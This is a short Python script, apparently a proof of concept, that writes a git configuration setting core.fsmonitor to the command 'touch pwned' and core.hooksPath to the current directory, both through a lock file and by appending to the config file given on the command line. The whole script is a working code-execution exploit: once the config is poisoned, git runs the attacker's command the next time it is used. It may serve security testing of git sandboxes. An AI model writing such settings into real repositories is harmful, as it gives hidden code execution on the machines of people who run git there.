"""Makes git run a program: writes core.fsmonitor and core.hooksPath into its settings. argv: the settings."""
import os
import sys

print("started", flush=True)
text = "[core]\n\tfsmonitor = touch pwned\n\thooksPath = .\n"
open(sys.argv[1] + ".lock", "w").write(text)
for act in (lambda: open(sys.argv[1], "a").write(text),
            lambda: os.replace(sys.argv[1] + ".lock", sys.argv[1])):
    try:
        act()
    except OSError as e:
        print(e)
